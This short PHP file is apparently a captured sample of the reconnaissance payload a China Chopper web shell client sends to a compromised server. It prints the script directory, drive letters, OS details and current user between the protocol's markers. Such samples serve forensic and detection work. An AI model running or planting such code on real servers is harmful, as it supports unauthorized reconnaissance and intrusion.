<?php
// What a Chopper-protocol client sends to list the server's basics, as it was left on disk.
@ini_set("display_errors", "0");
@set_time_limit(0);
echo "->|";
$d = dirname($_SERVER["SCRIPT_FILENAME"]);
$out = $d . "\t";
if (substr($d, 0, 1) != "/") {
    foreach (range("A", "Z") as $l) {
        if (is_dir("{$l}:")) {
            $out .= "{$l}:";
        }
    }
}
$out .= "\t" . php_uname() . "\t" . @get_current_user();
print $out;
echo "|<-";
die();
